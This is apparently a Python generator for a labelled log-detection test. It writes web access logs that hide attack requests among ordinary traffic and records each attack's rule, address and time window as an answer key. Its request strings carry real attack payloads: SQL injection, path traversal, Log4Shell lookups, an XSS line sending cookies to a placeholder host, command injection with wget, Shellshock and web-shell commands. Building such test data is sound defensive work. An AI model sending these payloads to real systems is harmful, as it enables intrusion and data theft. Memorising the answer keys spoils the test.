"""Access logs with attacks among ordinary requests. Each attack has an address of its own, 203.0.113.31 and up."""
from urllib.parse import quote

from common import after, at
from web_ordinary import AGENTS, AccessLog

CURL = "curl/7.88.1"
PYTHON = "python-requests/2.31.0"


def burst(log, address, start, targets, step=(2, 9), **common):
    """Requests one after the other: (target, status) or (target, status, options). Answers first and last time."""
    moment = last = start
    for entry in targets:
        target, status = entry[:2]
        log.hit(moment, address, target, status, **{**common, **(entry[2] if len(entry) > 2 else {})})
        last, moment = moment, after(moment, log.random.randrange(*step))
    return start, last


def sql_injection(log, answers):
    base = "/tra-cuu/ho-so?ma="
    values = [
        "1'", "1' AND 1=1-- -", "1' AND 1=2-- -", "1' ORDER BY 5-- -", "-1' UNION SELECT NULL,NULL,NULL-- -",
        "-1' UNION ALL SELECT 1,version(),database()-- -", "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -",
        "1' AND SLEEP(5)-- -", "1' AND (SELECT 8810 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT user()),FLOOR(RAND(0)*2))x FROM "
        "information_schema.plugins GROUP BY x)a)-- -", "1';SELECT pg_sleep(5)--", "1' OR '1'='1",
        "-1'/**/uNiOn/**/sElEcT/**/1,user(),3-- -", "1') AND EXTRACTVALUE(1,CONCAT(0x7e,user()))-- -",
    ]
    targets = [(base + quote(value, safe=""), 200 if index % 3 else 500) for index, value in enumerate(values)]
    start, last = burst(log, "203.0.113.31", at(1, 42, 10), targets, agent=AGENTS[0])
    # The first request, a lone quote, is only a try: the attack as rules know it begins with the second.
    first = [moment for moment, _, line in log.lines if "203.0.113.31" in line][1]
    answers.add(log.path, "web_sql_injection", "203.0.113.31", first, last)


def traversal(log, answers):
    first, last = burst(log, "203.0.113.32", at(3, 5, 1), [
        ("/tai-ve?tep=../../../../etc/passwd", 200), ("/tai-ve?tep=..%2f..%2f..%2f..%2fetc%2fshadow", 403),
        ("/tai-ve?tep=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", 404),
        ("/tai-ve?tep=php://filter/convert.base64-encode/resource=index", 200),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/hosts", 400), ("/tai-ve?tep=/proc/self/environ", 403)], agent=PYTHON)
    answers.add(log.path, "web_path_traversal", "203.0.113.32", first, last)


def log4shell(log, answers):
    first, last = burst(log, "203.0.113.33", at(4, 50, 20), [
        ("/", 200, {"agent": "${jndi:ldap://203.0.113.33:1389/a}"}),
        ("/?x=" + quote("${jndi:rmi://203.0.113.33/b}"), 200, {"agent": AGENTS[2]}),
        ("/dang-nhap", 200, {"agent": AGENTS[2], "referrer": "${${lower:j}ndi:${lower:l}dap://203.0.113.33/c}"}),
        ("/tim-kiem?tu-khoa=" + quote("${${::-j}${::-n}${::-d}${::-i}:dns://203.0.113.33/d}", safe=""), 200, {"agent": CURL}),
        ("/?x=" + quote(quote("${jndi:ldap://203.0.113.33/e}", safe=""), safe=""), 404, {"agent": CURL})])
    answers.add(log.path, "web_log4shell", "203.0.113.33", first, last)


def web_shell(log, answers):
    log.hit(at(10, 29, 58), "203.0.113.34", "/quan-tri/tai-len", 200, method="POST", agent=AGENTS[1])
    first, last = burst(log, "203.0.113.34", at(10, 30, 44), [
        ("/uploads/2026/03/anh.php?cmd=id", 200), ("/uploads/2026/03/anh.php?cmd=uname+-a", 200),
        ("/uploads/2026/03/anh.php?cmd=cat%20/etc/passwd", 200), ("/uploads/2026/03/anh.php", 200, {"method": "POST"}),
        ("/uploads/2026/03/anh.php", 200, {"method": "POST"})], step=(8, 40), agent=AGENTS[1])
    answers.add(log.path, "web_shell_in_use", "203.0.113.34", first, last)


def smaller(log, answers):
    """One attack of each further kind."""
    cases = [
        ("web_cross_site_scripting", at(8, 11, 0), [
            ("/tim-kiem?tu-khoa=" + quote("<script>alert(document.cookie)</script>"), 200),
            ("/tim-kiem?tu-khoa=" + quote('"><img src=x onerror=alert(1)>'), 200),
            ("/tim-kiem?tu-khoa=" + quote("'><svg/onload=fetch('//203.0.113.35/'+document.cookie)>"), 200)]),
        ("web_command_injection", at(12, 2, 0), [
            ("/cong-cu/ping?may=" + quote("127.0.0.1;cat /etc/hostname"), 200),
            ("/cong-cu/ping?may=" + quote("127.0.0.1|id"), 200), ("/cong-cu/ping?may=" + quote("$(wget http://203.0.113.36/x)"), 200)]),
        ("web_shellshock", at(6, 40, 0), [
            ("/cgi-bin/thong-ke.cgi", 404, {"agent": "() { :;}; /bin/bash -c 'echo nightjar'"}),
            ("/cgi-bin/status", 404, {"agent": "() { ignored; }; /usr/bin/id"})]),
        ("web_spring4shell", at(7, 3, 0), [
            ("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 400),
            ("/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", 400)]),
        ("web_php_exploit", at(15, 45, 0), [
            ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, {"method": "POST"}),
            ("/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x", 404),
            ("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", 404, {"method": "POST"})]),
        ("web_java_exploit", at(16, 20, 0), [
            ("/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/", 302),
            ("/nightjar.jsp/", 403, {"method": "PUT"})]),
        ("web_appliance_exploit", at(18, 12, 0), [
            ("/autodiscover/autodiscover.json?@example.org/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@example.org", 404)]),
        ("web_device_exploit", at(19, 33, 0), [
            ("/GponForm/diag_Form?images/", 404, {"method": "POST"}),
            ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&curpath=/&currentsetting.htm=1", 404)]),
        ("web_sensitive_file_served", at(20, 1, 0), [("/.git/config", 200, {"size": 271}), ("/.git/HEAD", 200, {"size": 23})]),
    ]
    for number, (rule, start, targets) in enumerate(cases):
        address = "203.0.113.%d" % (35 + number)
        first, last = burst(log, address, start, targets, agent=PYTHON)
        answers.add(log.path, rule, address, first, last)


def attack_then_login(log, answers):
    """What this address finds by night it uses in the morning: see auth.py for the log-in."""
    values = ["1' OR 'a'='a", "1' UNION SELECT 1,2,3-- -", "1' UNION SELECT 1,ten,mat_khau FROM nguoi_dung-- -", "1' AND SLEEP(3)-- -"]
    first, _ = burst(log, "203.0.113.86", at(2, 20, 0), [("/api/v1/can-bo?id=" + quote(value), 200) for value in values])
    answers.add(log.path, "web_attack_then_login", "203.0.113.86", first, at(9, 12, 30))


WORDS = (
    "admin backup config test old dev api beta staging private secret login portal manage panel data files docs tmp logs cache "
    "db sql dump install setup update upload export import report user users account billing mail webmail forum blog shop store "
    "assets2 static2 cgi server status info phpinfo console shell debug trace monitor metrics health").split()


def vulnerability_scan(log, answers):
    targets = [("/" + word + log.random.choice(["", ".php", ".asp", "/", ".bak"]), 404) for word in WORDS]
    targets += [
        ("/index.php?id=1%27%20OR%20%271%27=%271", 404), ("/index.php?page=../../../../../../etc/passwd", 404),
        ("/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E", 404), ("/cgi-bin/test.cgi?x=;id;", 404), ("/.git/HEAD", 404),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404)]
    log.random.shuffle(targets)
    first, last = burst(log, "203.0.113.51", at(22, 10, 0), targets, (1, 3), agent="Mozilla/5.00 (Nikto/2.5.0)", host="soyte.example.org")
    answers.add(log.path, "web_vulnerability_scan", "203.0.113.51", first, last)


def searches(log, answers):
    first, last = burst(log, "203.0.113.52", at(0, 31, 0), [(target, 404) for target in (
        "/phpmyadmin/index.php", "/pma/", "/.env", "/.aws/credentials", "/manager/html", "/solr/", "/wp-config.php.bak", "/backup.sql")],
        agent=AGENTS[2])
    answers.add(log.path, "web_probing", "203.0.113.52", first, last)
    targets = [("/%s%d" % (word, number), 404) for number, word in enumerate(WORDS)]
    first, last = burst(log, "203.0.113.53", at(13, 15, 0), targets, (1, 4), agent=AGENTS[0])
    answers.add(log.path, "web_forced_browsing", "203.0.113.53", first, last)
    first, last = burst(log, "203.0.113.54", at(14, 44, 0), [("/?t=%d" % number, 200) for number in range(16)], (3, 20),
                        agent="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")
    answers.add(log.path, "web_scanner", "203.0.113.54", first, last)


def logins(log, answers):
    first, last = burst(log, "203.0.113.55", at(4, 0, 0), [("/dang-nhap", 401)] * 45, (1, 6), method="POST", agent=PYTHON)
    done = after(last, 4)
    log.hit(done, "203.0.113.55", "/dang-nhap", 302, method="POST", agent=PYTHON)
    answers.add(log.path, "web_login_after_brute_force", "203.0.113.55", first, done)
    first, last = burst(log, "203.0.113.60", at(16, 0, 0), [("/api/login", 401)] * 24, (14, 26), method="POST", agent=CURL)
    answers.add(log.path, "web_login_brute_force", "203.0.113.60", first, last)
    first, last = burst(log, "203.0.113.56", at(17, 0, 0), [("/wp-login.php", 200)] * 40, (1, 5), method="POST", agent=AGENTS[4])
    answers.add(log.path, "web_login_brute_force", "203.0.113.56", first, last)
    first, last = burst(log, "203.0.113.57", at(18, 0, 0), [("/quan-ly/login", 302)] * 70, (1, 4), method="POST", agent=CURL)
    answers.add(log.path, "web_login_brute_force", "203.0.113.57", first, last)
    first, last = burst(log, "203.0.113.59", at(20, 0, 0), [("/quan-ly/kho", 401, {"user": "admin"})] * 75, (70, 95), agent=CURL)
    answers.add(log.path, "web_login_brute_force", "203.0.113.59", first, last)


def flood(answers):
    """One address takes the whole document register, thirty pages a second, for two minutes."""
    log = AccessLog("attacks/registry-access.log.zst", "apache", ("vanban.example.org",))
    log.ordinary(150)
    first = at(15, 10, 0)
    for number in range(3600):
        moment = after(first, number // 30)
        log.hit(moment, "203.0.113.58", "/van-ban/%d" % (100000 + number), size=8000 + number % 90, agent=AGENTS[0])
    answers.add(log.path, "web_request_rate", "203.0.113.58", first, moment)
    log.write()


def make(answers):
    log = AccessLog("attacks/portal-access.log", "nginx")
    log.ordinary(260)
    for maker in (sql_injection, traversal, log4shell, web_shell, smaller, attack_then_login):
        maker(log, answers)
    log.write()
    log = AccessLog("attacks/agencies-access.log.gz", "vhost", ("soyte.example.org", "sogddt.example.org"))
    log.ordinary(260)
    for maker in (vulnerability_scan, searches, logins):
        maker(log, answers)
    log.write()
    flood(answers)
